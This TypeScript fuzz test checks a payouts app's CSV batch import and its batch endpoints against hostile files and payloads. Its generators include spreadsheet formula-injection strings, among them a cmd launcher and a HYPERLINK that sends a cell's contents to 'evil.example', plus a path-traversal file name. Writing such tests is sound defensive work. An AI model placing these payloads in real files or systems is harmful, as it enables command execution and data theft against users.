// CSV batch import: hostile input, property-based, on both halves of the import.
//  (a) The renderer's parse + column mapping + preview validation (src/renderer/features/payouts/
//      csv.ts, DOM-free) fed arbitrary CSV text: quotes (balanced, doubled, unterminated), BOM,
//      CRLF / LF / CR mixed, blank and whitespace-only lines, huge fields, formula injection
//      (=cmd|…, +, -, @), unicode (RTL marks, astral, lone surrogates), wrong column counts, other
//      delimiters, arbitrary headers and mappings. Property: it never throws anything but an Error
//      with a clear message for an unusable file; otherwise every data row comes back in the
//      preview with its line, and every row main would refuse carries a per-row problem naming a
//      field. Conversely a row the preview passes is accepted by main's own row check (acceptRows)
//      and fits the contract's row schema: the two halves agree.
//  (b) Main's 'batches:create' / 'batches:add-items' through core.dispatch with arbitrary payloads
//      (hostile strings, wrong types, oversized, card rows, duplicated lines and references within
//      the chunk, with the batch and with an existing payout). Property: dispatch never throws and
//      answers an envelope; a refusal has a known code (never 'internal'), a message and, for
//      invalid_input, fields naming the row and field; and a refused call wrote nothing (ledger
//      digest unchanged, the batch's items exactly as they were).
import { randomUUID } from 'node:crypto';
import path from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Core } from '../../src/main/core';
import type { Profile } from '../../src/main/ledger/repositories/profiles';
import { acceptRows } from '../../src/main/services/payouts-batch/batch-rows';
import { ServiceError } from '../../src/main/services/errors';
import { guessMapping, MAPPING_TARGETS, parseCsvText, payoutTemplateCsv, validateRows, type Mapping } from '../../src/renderer/features/payouts/csv';
import { BATCH_CHUNK_ROWS, batchRowSchema, type BatchRowForm, type BatchView, type ContractErrorCode, type Envelope } from '../../src/shared/contract';
import { testCore } from '../helpers/app-core';
import { tempDir } from '../helpers/temp-dir';
import * as kit from '../helpers/calls';
import { sleep } from '../helpers/poll';
import { payoutItem } from '../reliability/helpers/plan';
import { checkParams, hostileValue, prototypePollution, show } from './helpers/arbitraries';
import { ledgerDigest } from './helpers/ledger-digest';

/** The batch screen's own template (one valid row per batchable method): what a user starts from. */
const TEMPLATE = parseCsvText('payouts-template.csv', payoutTemplateCsv());
const HEADER = TEMPLATE.headers;
const TEMPLATE_ROWS = TEMPLATE.rows.map((row) => row.cells);

const hostileCell = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      "=cmd|' /C calc'!A0",
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      '+SUM(1,2)',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '"',
      '""',
      '"a, quoted" field',
      'line\nbreak',
      'cr\rlf\r\n',
      '\ufeff',
      '\u202eevil\u202c',
      '\ud800',
      '𝟘𝟙𝟚',
      'Zoë Ñandú',
      '株式会社',
      'x'.repeat(100_000),
      '4111111111111111',
      'credit_card',
      'CRYPTO',
      ' open_banking ',
      'fps',
      '-1',
      '0',
      '1e3',
      '10.505',
      '0.00000000001',
      '99999999999999999999.99',
      ' ',
      '',
    ),
  },
);

/** A row: a template row with cells replaced or dropped or added, or cells at random. */
const csvRow = fc.oneof(
  {
    weight: 3,
    arbitrary: fc
      .tuple(fc.constantFrom(...TEMPLATE_ROWS), fc.array(fc.tuple(fc.nat({ max: HEADER.length + 2 }), hostileCell), { maxLength: 3 }), fc.integer({ min: -3, max: 2 }))
      .map(([row, changes, extra]) => {
        const cells = [...row];
        for (const [i, cell] of changes) cells[i] = cell;
        if (extra < 0) cells.length = Math.max(0, cells.length + extra);
        for (let i = 0; i < extra; i++) cells.push('extra');
        return Array.from(cells, (c) => c ?? '');
      }),
  },
  { weight: 1, arbitrary: fc.array(hostileCell, { maxLength: 20 }) },
);

const header = fc.oneof(
  { weight: 3, arbitrary: fc.constant(HEADER) },
  { weight: 1, arbitrary: fc.shuffledSubarray(HEADER).map((h) => h.map((name) => (name.length % 2 ? name.toUpperCase() : ` ${name} `))) },
  { weight: 1, arbitrary: fc.array(hostileCell, { maxLength: 16 }) },
);

/** Each cell raw, quoted (quotes doubled) or with a stray quote; lines joined by mixed endings, blank lines mixed in. */
const csvText = fc
  .record({
    header,
    rows: fc.array(csvRow, { maxLength: 25 }),
    quoting: fc.array(fc.constantFrom('raw', 'quoted'), { minLength: 1, maxLength: 8 }),
    /** Now and then one cell with a stray quote (an unterminated field: the file is refused, or the quote is kept). */
    stray: fc.option(fc.nat({ max: 60 }), { nil: undefined, freq: 4 }),
    endings: fc.array(fc.constantFrom('\n', '\r\n', '\r\n', '\r'), { minLength: 1, maxLength: 5 }),
    blanks: fc.array(fc.constantFrom('', '   ', ',,,', '\t'), { maxLength: 4 }),
    delimiter: fc.constantFrom(',', ',', ',', ';', '\t', '|'),
    bom: fc.boolean(),
    trailing: fc.boolean(),
  })
  .map(({ header: head, rows, quoting, stray, endings, blanks, delimiter, bom, trailing }) => {
    let k = 0;
    const encode = (cell: string) => {
      if (k === stray) return `${k++ % 2 ? '"' : ''}${cell}"`;
      const mode = quoting[k++ % quoting.length];
      if (mode === 'quoted') return `"${cell.replace(/"/g, '""')}"`;
      return /[",\r\n;\t|]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell;
    };
    const lines = [head, ...rows].map((cells) => cells.map(encode).join(delimiter));
    blanks.forEach((blank, i) => lines.splice(1 + ((i * 7) % Math.max(1, lines.length)), 0, blank));
    const text = lines.map((line, i) => line + (i < lines.length - 1 || trailing ? endings[i % endings.length] : '')).join('');
    return (bom ? '\ufeff' : '') + text;
  });

/** A mapping: the one guessed from the headers, or columns assigned at random (some out of range), a fixed method or none. */
const mappingFor = (headers: readonly string[]) =>
  fc.oneof(
    { weight: 3, arbitrary: fc.constant(guessMapping(headers)) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.array(fc.option(fc.integer({ min: -2, max: headers.length + 2 }), { nil: null }), { minLength: MAPPING_TARGETS.length, maxLength: MAPPING_TARGETS.length }), fc.constantFrom('open_banking', 'crypto', 'fps', 'credit_card', null))
        .map(([indexes, fixedMethod]): Mapping => ({ columns: Object.fromEntries(MAPPING_TARGETS.map((t, i) => [t, indexes[i] ?? null])), fixedMethod: fixedMethod as Mapping['fixedMethod'] })),
    },
  );

const PROFILE: Profile = {
  id: 'fuzz-profile',
  name: 'Fuzz',
  environment: 'local',
  baseUrl: 'http://127.0.0.1:9/api/v2',
  merchantId: 'fuzz-merchant',
  merchantSiteId: 'fuzz-site',
  kid: null,
  notificationPublicUrl: null,
  listenerPathSecret: 'x'.repeat(32),
  isActive: true,
  archivedAt: null,
  createdAt: '2026-01-01T00:00:00.000Z',
  updatedAt: '2026-01-01T00:00:00.000Z',
};

/** Main's own check of rows (what 'batches:add-items' runs), on a batch that holds nothing yet: the refusal's fields, or null when accepted. */
async function mainRefuses(rows: { line: number; form: BatchRowForm }[]): Promise<Record<string, string> | null> {
  try {
    await acceptRows(rows, { profile: PROFILE, notificationUrl: 'http://127.0.0.1:9/n/fuzz', newReference: () => randomUUID(), referenceTaken: async () => false, lineTaken: async () => false });
    return null;
  } catch (error) {
    if (!(error instanceof ServiceError) || error.code !== 'invalid_input') throw error;
    return error.fields ?? { '(row)': error.message };
  }
}

describe('CSV batch import in the renderer: parse, mapping and preview under hostile files', () => {
  it('never throws but a clear Error; every row is previewed, every row main would refuse names its problem, and rows the preview passes are accepted by main', async () => {
    let parsedFiles = 0;
    let rowsSeen = 0;
    let rowsBad = 0;
    let rowsPassed = 0;
    await fc.assert(
      fc.asyncProperty(
        csvText.chain((text) => {
          let headers: string[] = [];
          try {
            headers = parseCsvText('fuzz.csv', text).headers;
          } catch {
            // An unusable file: the mapping is never asked for.
          }
          return fc.tuple(fc.constant(text), mappingFor(headers));
        }),
        async ([text, mapping]) => {
          let csv: ReturnType<typeof parseCsvText>;
          try {
            csv = parseCsvText('fuzz.csv', text);
          } catch (error) {
            expect(error instanceof Error, `a non-Error was thrown for ${show(text)}`).toBe(true);
            const message = (error as Error).message;
            expect(message.length > 10 && message.length < 500 && !/undefined|NaN|\[object/.test(message), `unclear error "${message}" for ${show(text)}`).toBe(true);
            return;
          }
          parsedFiles++;
          expect(() => guessMapping(csv.headers)).not.toThrow();
          const preview = await validateRows(csv, mapping, { environment: 'local', limits: null }, () => {}, new AbortController().signal);
          expect(preview.map((r) => r.line), show(text)).toEqual(csv.rows.map((r) => r.line));
          const passed: { line: number; form: BatchRowForm }[] = [];
          for (const row of preview) {
            rowsSeen++;
            const what = `line ${row.line} of ${show(text, 400)} → ${show(row, 400)}`;
            for (const [field, problem] of Object.entries(row.problems)) {
              expect(field.length > 0 && typeof problem === 'string' && problem.trim().length > 0 && !/undefined|\[object/.test(problem), `unclear problem ${field}: ${problem} (${what})`).toBe(true);
            }
            const refused = await mainRefuses([{ line: row.line, form: row.form }]);
            if (refused) {
              rowsBad++;
              expect(Object.keys(row.problems).length, `main refuses ${show(refused)} but the preview shows no problem: ${what}`).toBeGreaterThan(0);
            }
            if (Object.keys(row.problems).length === 0) {
              expect(batchRowSchema.safeParse(row.form).success, `the preview passed a row the contract's schema refuses: ${what}`).toBe(true);
              passed.push({ line: row.line, form: row.form });
              rowsPassed++;
            }
          }
          // What the batch screen uploads (the rows without problems) main stores whole.
          expect(await mainRefuses(passed), `main refuses rows the preview passed: ${show(text, 400)}`).toBeNull();
        },
      ),
      checkParams(300),
    );
    console.log(`csv fuzz (renderer): ${parsedFiles} files parsed, ${rowsSeen} rows previewed, ${rowsBad} refused by main and flagged, ${rowsPassed} passed and accepted by main`);
    expect(parsedFiles).toBeGreaterThan(0);
    expect(rowsPassed).toBeGreaterThan(0);
    expect(rowsBad).toBeGreaterThan(0);
  }, 120_000);

  it('refuses unusable files with a clear message', () => {
    expect(() => parseCsvText('a.csv', '')).toThrow(/empty/);
    expect(() => parseCsvText('a.csv', '\ufeff\r\n\r\n   \n')).toThrow(/empty/);
    expect(() => parseCsvText('a.csv', 'method,amount\r\n')).toThrow(/no payouts/);
    expect(() => parseCsvText('a.csv', `${HEADER.join(',')}\n${'fps,1.00,GBP\n'.repeat(10_001)}`)).toThrow(/at most 10,000/);
    expect(() => parseCsvText('a.csv', `${HEADER.join(',')}\n"open_banking,1.00,EUR\n`)).toThrow(/quotes/i);
  });
});

// ---------------------------------------------------------------------------------------------
// (b) main's side, through the contract.

const REFUSALS = new Set<ContractErrorCode>(['invalid_input', 'conflict', 'not_found', 'unavailable']);
const temp = tempDir('paydesk-csv-fuzz-');
let core: Core;
let draft: BatchView;
const storedReferences: string[] = [];
let existingPayoutReference = '';
const internalErrors: string[] = [];
const outcomes = new Map<string, number>();

const itemsOf = (id: number) => core.ledger.all<{ merchant_reference: string }>('SELECT * FROM batch_items WHERE batch_id = ? ORDER BY id', [id]);
const must = <T>(channel: string, input?: unknown) => kit.must<T>(core, channel, input);

/** Waits until nothing writes the ledger for a while (the seeded payout's notification and its read). */
async function quiet(): Promise<void> {
  let last = (await ledgerDigest(core.ledger)).content;
  for (let i = 0; i < 200; i++) {
    await sleep(50);
    const now = (await ledgerDigest(core.ledger)).content;
    if (now === last) return;
    last = now;
  }
}

const validForm = (reference: string, variant: number): BatchRowForm => {
  const method = (['open_banking', 'crypto', 'fps'] as const)[variant % 3] as 'open_banking' | 'crypto' | 'fps';
  const { profileId: _p, ...form } = payoutItem(reference, variant, method, null).form as BatchRowForm & { profileId?: string };
  return form;
};

beforeAll(async () => {
  core = await testCore(path.join(temp.dir, 'data'));
  existingPayoutReference = `fuzz-paid-${randomUUID()}`;
  await must('payouts:create', payoutItem(existingPayoutReference, 1, 'fps', 'P100').form);
  draft = await must<BatchView>('batches:create', { fileName: 'fuzz.csv', rows: 10_000 });
  const rows = Array.from({ length: 5 }, (_, i) => ({ line: i + 2, form: validForm(`fuzz-stored-${i}-${randomUUID()}`, i) }));
  await must('batches:add-items', { id: draft.id, items: rows });
  storedReferences.push(...rows.map((r) => String(r.form.merchantReference)));
  await quiet();
}, 60_000);

afterAll(async () => {
  await core?.close();
  temp.cleanup();
  expect(prototypePollution()).toEqual([]);
});

/** A valid row with one to three fields (top level or nested) replaced by hostile values or removed. */
const brokenForm = fc
  .tuple(fc.nat({ max: 2 }), fc.array(fc.tuple(fc.constantFrom('method', 'amount', 'currency', 'country', 'merchantReference', 'customer', 'paymentDetails', 'customer.firstName', 'customer.email', 'paymentDetails.iban', 'paymentDetails.walletAddress', 'paymentDetails.sortCode', 'paymentDetails.cardNum', 'extra'), fc.option(hostileValue(), { nil: undefined })), { minLength: 1, maxLength: 3 }))
  .map(([variant, changes]) => {
    const form: Record<string, unknown> = { ...validForm(`fuzz-${randomUUID()}`, variant) };
    for (const [dotted, value] of changes) {
      const [head, inner] = dotted.split('.') as [string, string | undefined];
      if (inner === undefined) form[head] = value;
      else form[head] = { ...((form[head] as object | undefined) ?? {}), [inner]: value };
    }
    return form;
  });

const reference = () => fc.oneof(fc.constantFrom(...storedReferences, existingPayoutReference, 'dup-in-chunk', 'x'.repeat(300), ''), fc.uuid(), fc.string({ maxLength: 40 }));

const item = fc.oneof(
  { weight: 3, arbitrary: fc.record({ line: fc.integer({ min: 1, max: 40 }), form: fc.nat({ max: 2 }).map((v) => validForm(`fuzz-${randomUUID()}`, v)) }) },
  { weight: 4, arbitrary: fc.record({ line: fc.integer({ min: 1, max: 40 }), form: brokenForm }) },
  { weight: 2, arbitrary: fc.record({ line: fc.integer({ min: 1, max: 40 }), form: fc.tuple(fc.nat({ max: 2 }), reference()).map(([v, ref]) => validForm(ref, v)) }) },
  { weight: 1, arbitrary: fc.record({ line: fc.integer({ min: 1, max: 40 }), form: fc.constant({ ...(payoutItem('card', 1, 'credit_card', null).form as Record<string, unknown>), merchantReference: undefined }) }) },
  { weight: 1, arbitrary: fc.record({ line: fc.oneof(fc.integer(), fc.double(), hostileValue()), form: hostileValue() }) },
  { weight: 1, arbitrary: hostileValue() },
);

const addItemsInput = fc.oneof(
  { weight: 6, arbitrary: fc.array(item, { minLength: 1, maxLength: 8 }).map((items) => ({ id: 0, items })) },
  // Many valid rows and one bad one at the end: the whole chunk is refused, nothing half-stored.
  { weight: 1, arbitrary: fc.tuple(fc.integer({ min: 20, max: BATCH_CHUNK_ROWS - 1 }), brokenForm).map(([n, bad]) => ({ id: 0, items: [...Array.from({ length: n }, (_, i) => ({ line: 100 + i, form: validForm(`fuzz-${randomUUID()}`, i) })), { line: 100 + n, form: bad }] })) },
  // Oversized: one row past the chunk limit.
  { weight: 1, arbitrary: fc.constant(null).map(() => ({ id: 0, items: Array.from({ length: BATCH_CHUNK_ROWS + 1 }, (_, i) => ({ line: 1_000 + i, form: validForm(`fuzz-${randomUUID()}`, i) })) })) },
  { weight: 1, arbitrary: fc.record({ id: fc.oneof(hostileValue(), fc.constantFrom(0, -1, 999_999)), items: fc.oneof(hostileValue(), fc.array(item, { maxLength: 3 })) }, { requiredKeys: [] }) },
  { weight: 1, arbitrary: hostileValue() },
);

function checkRefusal(channel: string, input: unknown, envelope: Envelope<unknown>): void {
  const what = `${channel} ← ${show(input, 400)} → ${show(envelope, 400)}`;
  expect(envelope !== null && typeof envelope === 'object' && typeof envelope.ok === 'boolean', what).toBe(true);
  if (envelope.ok) return;
  const { error } = envelope;
  if (error.code === 'internal') internalErrors.push(what);
  expect(REFUSALS.has(error.code), `refused with code ${error.code}: ${what}`).toBe(true);
  expect(typeof error.message === 'string' && error.message.length > 0 && error.message.length < 20_000, what).toBe(true);
  if (error.code === 'invalid_input') {
    const fields = Object.entries(error.fields ?? {});
    expect(fields.length, `invalid_input without fields: ${what}`).toBeGreaterThan(0);
    for (const [field, problem] of fields) {
      expect(typeof problem === 'string' && problem.length > 0, what).toBe(true);
      // A row's problem names the row (its index in the call, or its file line) and the field.
      expect(/^(\(input\)|id|items|rows|fileName|profileId)$|^items\.\d+(\.|$)/.test(field), `field "${field}" names no row or field: ${what}`).toBe(true);
    }
  }
}

describe("CSV batch import in main: 'batches:create' and 'batches:add-items' under hostile payloads", () => {
  it('add-items never throws, refuses with the row and field named, and a refused chunk leaves the batch as it was', async () => {
    await fc.assert(
      fc.asyncProperty(addItemsInput, async (generated) => {
        const input = generated !== null && typeof generated === 'object' && (generated as { id?: unknown }).id === 0 ? { ...(generated as object), id: draft.id } : generated;
        const before = await ledgerDigest(core.ledger);
        const itemsBefore = await itemsOf(draft.id);
        let envelope: Envelope<unknown>;
        try {
          envelope = await core.dispatch('batches:add-items', input);
        } catch (error) {
          throw new Error(`dispatch threw for ${show(input)}: ${String(error)}`);
        }
        outcomes.set(envelope.ok ? 'add-items ok' : `add-items ${envelope.error.code}`, (outcomes.get(envelope.ok ? 'add-items ok' : `add-items ${envelope.error.code}`) ?? 0) + 1);
        checkRefusal('batches:add-items', input, envelope);
        if (envelope.ok) {
          const sent = (input as { items: unknown[] }).items.length;
          expect((await itemsOf(draft.id)).length, `accepted: every row stored (${show(input)})`).toBe(itemsBefore.length + sent);
          storedReferences.push(...(await itemsOf(draft.id)).slice(itemsBefore.length).map((r) => r.merchant_reference));
          return;
        }
        expect(await ledgerDigest(core.ledger), `a refused add-items wrote to the ledger: ${show(input)} → ${show(envelope)}`).toEqual(before);
        expect(await itemsOf(draft.id), 'the batch items changed on a refusal').toEqual(itemsBefore);
      }),
      checkParams(200),
    );
  }, 120_000);

  it('create never throws, refuses cleanly and writes nothing when it refuses', async () => {
    const createInput = fc.oneof(
      fc.record({ fileName: fc.oneof(fc.string({ maxLength: 300 }), fc.constantFrom('', '   ', 'x'.repeat(256), '../../etc/passwd', '=cmd|x', '\u0000.csv', '\ud800.csv'), hostileValue()), rows: fc.oneof(fc.integer(), fc.constantFrom(0, 1, 10_000, 10_001, -1, 1.5, NaN), hostileValue()) }, { requiredKeys: [] }),
      fc.record({ fileName: fc.constant('a.csv'), rows: fc.constant(3), profileId: fc.oneof(fc.string(), hostileValue()) }),
      hostileValue(),
    );
    await fc.assert(
      fc.asyncProperty(createInput, async (input) => {
        const before = await ledgerDigest(core.ledger);
        let envelope: Envelope<unknown>;
        try {
          envelope = await core.dispatch('batches:create', input);
        } catch (error) {
          throw new Error(`dispatch threw for ${show(input)}: ${String(error)}`);
        }
        outcomes.set(envelope.ok ? 'create ok' : `create ${envelope.error.code}`, (outcomes.get(envelope.ok ? 'create ok' : `create ${envelope.error.code}`) ?? 0) + 1);
        checkRefusal('batches:create', input, envelope);
        if (envelope.ok) {
          await must('batches:discard', { id: (envelope.value as BatchView).id });
          return;
        }
        expect(await ledgerDigest(core.ledger), `a refused create wrote to the ledger: ${show(input)}`).toEqual(before);
      }),
      checkParams(150),
    );
  }, 120_000);

  it('names the line and field of a bad row at the end of a full chunk, and stores none of it', async () => {
    const before = await ledgerDigest(core.ledger);
    const itemsBefore = await itemsOf(draft.id);
    const rows = Array.from({ length: BATCH_CHUNK_ROWS }, (_, i) => ({ line: 5_000 + i, form: validForm(`fuzz-full-${i}-${randomUUID()}`, i) }));
    rows[BATCH_CHUNK_ROWS - 1] = { line: 5_000 + BATCH_CHUNK_ROWS - 1, form: { ...validForm('fuzz-last', 0), merchantReference: String(rows[0]?.form.merchantReference) } };
    rows[BATCH_CHUNK_ROWS - 2] = { line: 5_000 + BATCH_CHUNK_ROWS - 2, form: { ...validForm('fuzz-card', 0), method: 'credit_card' } };
    const envelope = await core.dispatch('batches:add-items', { id: draft.id, items: rows });
    expect(envelope.ok).toBe(false);
    if (envelope.ok) return;
    expect(envelope.error.code).toBe('invalid_input');
    expect(Object.keys(envelope.error.fields ?? {})).toEqual([`items.${5_000 + BATCH_CHUNK_ROWS - 2}.method`, `items.${5_000 + BATCH_CHUNK_ROWS - 1}.merchantReference`]);
    expect(envelope.error.message).toMatch(/not stored/);
    expect(await ledgerDigest(core.ledger)).toEqual(before);
    expect(await itemsOf(draft.id)).toEqual(itemsBefore);
  });

  it('never needed the internal-error path', () => {
    console.log(`csv fuzz (main) outcomes: ${[...outcomes].map(([o, n]) => `${o}:${n}`).join(' ')}`);
    expect(internalErrors).toEqual([]);
  });
});
